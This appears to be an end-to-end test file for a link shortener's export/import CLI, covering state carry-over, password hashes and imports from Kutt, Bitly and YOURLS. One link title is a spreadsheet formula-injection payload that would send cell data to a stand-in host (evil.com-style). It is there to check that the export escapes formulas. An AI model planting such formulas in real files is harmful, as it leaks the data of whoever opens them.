import { mkdtempSync, readFileSync, rmSync } from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';
import { parse } from 'csv-parse/sync';
import { Endpoints, REPO_ROOT } from '@shortlink/harness';
import { postBatch, runCli } from './batch-journey';
import { BROWSER_UA, createTenant, redirectOf } from './support';

const FIXTURES = join(REPO_ROOT, 'libs/shared/link-transfer/src/fixtures');

interface Results {
  row: string;
  status: string;
  code: string;
  shortUrl: string;
  error: string;
  note: string;
}

/** Every link of a tenant as the export route gives it (password hashes included), by code. */
async function exportedLinks(base: string, apiKey: string): Promise<Map<string, Record<string, unknown>>> {
  const links = new Map<string, Record<string, unknown>>();
  let cursor: string | null = null;
  do {
    const res = await fetch(`${base}/api/v1/export/links?limit=100${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`, {
      headers: { 'x-api-key': apiKey },
    });
    expect(res.status).toBe(200);
    const page = (await res.json()) as { links: Array<Record<string, unknown>>; nextCursor: string | null };
    for (const l of page.links) links.set(l.code as string, l);
    cursor = page.nextCursor;
  } while (cursor);
  return links;
}

const api = (base: string, apiKey: string, path: string, init: { method?: string; body?: unknown; headers?: Record<string, string> } = {}) =>
  fetch(`${base}/api/v1/links${path}`, {
    method: init.method ?? 'GET',
    body: init.body === undefined ? undefined : JSON.stringify(init.body),
    headers: { 'content-type': 'application/json', 'x-api-key': apiKey, ...init.headers },
  });

/** The CLI's stderr without its progress bar. */
const complaints = (stderr: string) =>
  stderr
    .split('\n')
    .filter((l) => l.trim() && !l.startsWith('import |'))
    .join('\n');

async function importFile(target: Endpoints, apiKey: string, file: string, out: string, flags: string[] = []) {
  const run = await runCli('links:import', [file, '--api', target.generation, '--out', out, ...flags], apiKey);
  return { code: run.code, stderr: complaints(run.stderr), stdout: run.stdout, results: parse(readFileSync(out, 'utf8'), { columns: true }) as Results[] };
}

/**
 * Export from one installation and import into another ("Export and import lose a link's
 * state"; docs/design.md, "Import and export"), with the CLI as a user runs it: every field comes
 * back, a disabled link stays disabled, a protected one stays protected (by its hash), legacy codes
 * keep their shape and redirect, spreadsheet formulas stay text in the file. `source` and `target`
 * are installations with their own default domains; their domains are new on every run.
 */
export function describeTransferJourney(installations: () => { source: Endpoints; target: Endpoints }) {
  describe('export from one installation, import into another', () => {
    let dir: string;
    beforeAll(() => (dir = mkdtempSync(join(tmpdir(), 'shortlink-transfer-'))));
    afterAll(() => rmSync(dir, { recursive: true, force: true }));

    it('carries every field: state, password hash, options, legacy codes; the file guards formulas; --no-codes and --keep-domains are their own imports; a read-only key’s export imports protected links disabled', async () => {
      const { source, target } = installations();
      const sourceKey = (await createTenant(source)).apiKey;
      const targetKey = (await createTenant(target)).apiKey;
      const full = {
        url: 'https://example.com/full?x=1',
        alias: 'xfer-full',
        title: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
        tags: ['promo', 'q3'],
        expiresAt: '2031-01-31T12:00:00.000Z',
        redirectType: 301,
        maxClicks: 500,
        utm: { source: 'mail', campaign: '-launch' },
        forwardQuery: false,
        geoTargets: { DE: 'https://example.de/' },
        deviceTargets: { ios: 'https://apps.apple.com/x' },
        appTargets: { ios: 'myapp://product/42', android: 'https://example.com/app/42' },
        clicksPerIpPerMinute: 5,
        variants: [
          { url: 'https://example.com/a', weight: 3 },
          { url: 'https://example.com/b', weight: 1 },
        ],
      };
      for (const body of [
        full,
        { url: 'https://example.com/secret', alias: 'xfer-pw', password: 'open sesame' },
        { url: 'https://example.com/off', alias: 'xfer-off', title: '@SUM(1+1)' },
      ]) {
        expect((await api(source.generation, sourceKey, '', { method: 'POST', body })).status).toBe(201);
      }
      expect((await api(source.generation, sourceKey, '/xfer-off', { method: 'PATCH', body: { status: 'disabled' } })).status).toBe(200);
      const legacy = await postBatch(source.generation, sourceKey, [
        JSON.stringify({ url: 'https://example.com/seven', legacyCode: '7' }) +
          '\n' +
          JSON.stringify({ url: 'https://example.com/launch', legacyCode: 'blog/2024/launch' }) +
          '\n',
      ]);
      expect(legacy.lines.map((l) => [l.status, l.link?.code])).toEqual([
        [201, '7'],
        [201, 'blog/2024/launch'],
      ]);
      const before = await exportedLinks(source.generation, sourceKey);
      expect(before.size).toBe(5);

      const file = join(dir, 'export.csv');
      const exported = await runCli('links:export', ['--api', source.generation, '--out', file], sourceKey);
      expect([exported.code, exported.stderr]).toEqual([0, expect.not.stringContaining('warning')]);
      const text = readFileSync(file, 'utf8');
      expect(text).not.toContain('open sesame');
      expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
      expect(text).toContain(String(before.get('xfer-pw')!.passwordHash));

      const first = await importFile(target, targetKey, file, join(dir, 'export.results.csv'));
      expect([first.code, first.stderr]).toEqual([0, '']);
      expect(first.results.map((r) => [r.status, r.code, r.note])).toEqual([...before.keys()].map((code) => ['201', code, '']));
      const after = await exportedLinks(target.generation, targetKey);
      // An installation's own observations of a link are not carried: its dead-link checks' health (on the real stack
      // another suite's checks may have reached the source's targets already).
      const carried = (l: Record<string, unknown>) => {
        const { domain: _d, shortUrl: _s, createdAt: _c, updatedAt: _u, version: _v, health: _h, ...rest } = l;
        return rest;
      };
      for (const [code, link] of before) expect(carried(after.get(code)!)).toEqual(carried(link));
      expect(after.get('xfer-full')!.title).toBe(full.title);
      expect(after.get('xfer-off')!.status).toBe('disabled');
      expect(after.get('xfer-pw')).toMatchObject({ passwordProtected: true, passwordHash: before.get('xfer-pw')!.passwordHash });

      // The target's redirect: legacy codes resolve, the disabled link does not, the password still guards its link.
      const t = target;
      expect([(await redirectOf(t, '7')).status, (await redirectOf(t, '7')).headers.get('location')]).toEqual([302, 'https://example.com/seven']);
      expect((await redirectOf(t, 'blog/2024/launch')).headers.get('location')).toBe('https://example.com/launch');
      expect((await redirectOf(t, 'xfer-off')).status).toBe(404);
      const form = await redirectOf(t, 'xfer-pw', { accept: 'text/html' });
      expect([form.status, await form.text()]).toEqual([200, expect.not.stringContaining('example.com/secret')]);
      const unlocked = await fetch(`${t.redirect}/xfer-pw`, {
        method: 'POST',
        redirect: 'manual',
        body: 'password=open+sesame',
        headers: { 'content-type': 'application/x-www-form-urlencoded', 'user-agent': BROWSER_UA },
      });
      expect([unlocked.status, unlocked.headers.get('location')]).toEqual([303, 'https://example.com/secret']);
      const variant = await redirectOf(t, 'xfer-full');
      expect(variant.status).toBe(301);
      expect(variant.headers.get('location')).toMatch(/^https:\/\/example\.com\/[ab]\?utm_source=mail&utm_campaign=-launch$/);

      // The same file again: nothing twice. With --no-codes: another import (new codes), not 422 IDEMPOTENCY_KEY_REUSED.
      const again = await importFile(target, targetKey, file, join(dir, 'again.results.csv'));
      expect(readFileSync(join(dir, 'again.results.csv'), 'utf8')).toBe(readFileSync(join(dir, 'export.results.csv'), 'utf8'));
      expect(again.code).toBe(0);
      const renamed = await importFile(target, targetKey, file, join(dir, 'renamed.results.csv'), ['--no-codes']);
      expect([renamed.code, renamed.stderr]).toEqual([0, '']);
      expect(renamed.results.every((r) => r.status === '201' && !before.has(r.code))).toBe(true);
      // --keep-domains asks for the source's domain, which is not the target's: refused row by row.
      const kept = await importFile(target, targetKey, file, join(dir, 'kept.results.csv'), ['--keep-domains', '--no-codes']);
      expect(kept.code).toBe(1);
      expect(kept.results.map((r) => r.error.split(':')[0])).toEqual(Array(5).fill('DOMAIN_NOT_ALLOWED'));
      expect((await exportedLinks(target.generation, targetKey)).size).toBe(10);

      // A key that may only read gets no hashes: the export warns, and the protected link comes back disabled, saying why.
      const readOnly = await fetch(`${source.generation}/api/v1/keys`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-api-key': sourceKey },
        body: JSON.stringify({ name: 'read-only', scopes: ['links:read'] }),
      });
      const readFile = join(dir, 'read-only.csv');
      const readExport = await runCli('links:export', ['--api', source.generation, '--out', readFile], ((await readOnly.json()) as { apiKey: string }).apiKey);
      expect([readExport.code, readExport.stderr]).toEqual([0, expect.stringContaining('warning: this key lacks links:write')]);
      const otherKey = (await createTenant(target)).apiKey;
      const closed = await importFile(target, otherKey, readFile, join(dir, 'read-only.results.csv'), ['--no-codes']);
      expect(closed.code).toBe(0);
      const pwRow = closed.results[[...before.keys()].indexOf('xfer-pw')];
      expect(pwRow.note).toMatch(/no password hash.*created disabled/);
      expect((await exportedLinks(target.generation, otherKey)).get(pwRow.code)).toMatchObject({ status: 'disabled', passwordProtected: false });
    });

    it('imports the state other tools export: Kutt banned and password-protected, Bitly archived, disabled with a note; YOURLS plugin CSV with its 1-2 character keywords; YOURLS titles decoded', async () => {
      const { target } = installations();
      const key = (await createTenant(target)).apiKey;
      const kutt = await importFile(target, key, join(FIXTURES, 'kutt.json'), join(dir, 'kutt.results.csv'));
      expect(kutt.code).toBe(0);
      expect(kutt.results.map((r) => [r.status, r.code, r.note.split(':')[0]])).toEqual([
        ['201', 'kutt-docs', ''],
        ['201', 'xK3pQ9', 'banned on Kutt'],
        ['201', 'kutt-third', 'password-protected on Kutt, whose link list carries no password hash'],
      ]);
      expect(JSON.parse(kutt.stdout)).toMatchObject({ created: 3, noted: 2 });
      const bitly = await importFile(target, key, join(FIXTURES, 'bitly.csv'), join(dir, 'bitly.results.csv'));
      expect(bitly.results.map((r) => [r.status, r.note])).toEqual([
        ['201', ''],
        ['201', ''],
        ['201', 'archived on Bitly: created disabled'],
      ]);
      const links = await exportedLinks(target.generation, key);
      expect(['kutt-docs', 'xK3pQ9', 'kutt-third', '3xYzAbC', '5mNoPqR'].map((c) => links.get(c)!.status)).toEqual([
        'active',
        'disabled',
        'disabled',
        'active',
        'disabled',
      ]);
      for (const code of ['xK3pQ9', 'kutt-third', '5mNoPqR']) expect((await redirectOf(target, code)).status).toBe(404);

      const plugin = await importFile(target, key, join(FIXTURES, 'yourls-plugin.csv'), join(dir, 'plugin.results.csv'));
      expect([plugin.code, plugin.stderr]).toEqual([0, '']);
      expect(plugin.results.map((r) => [r.status, r.code])).toEqual([
        ['201', 'launch-2024'],
        ['201', 'zz'],
        ['201', '1'],
      ]);
      expect((await redirectOf(target, '1')).headers.get('location')).toBe('https://example.com/yourls/first');
      expect((await redirectOf(target, 'zz')).headers.get('location')).toBe('https://example.com/yourls/zz');

      const table = await importFile(target, key, join(FIXTURES, 'yourls.csv'), join(dir, 'yourls.results.csv'));
      expect(table.results.map((r) => [r.status, r.code])).toEqual([
        ['201', 'yourls-home'],
        ['201', 'yourls2'],
        ['201', 'a'],
      ]);
      const home = await api(target.generation, key, '/yourls-home');
      expect(((await home.json()) as { title: string }).title).toBe("Home & Garden '24 – café ☺ &bogus;");
      expect((await redirectOf(target, 'a')).headers.get('location')).toBe('https://example.com/yourls/short-keyword');
    });
  });
}
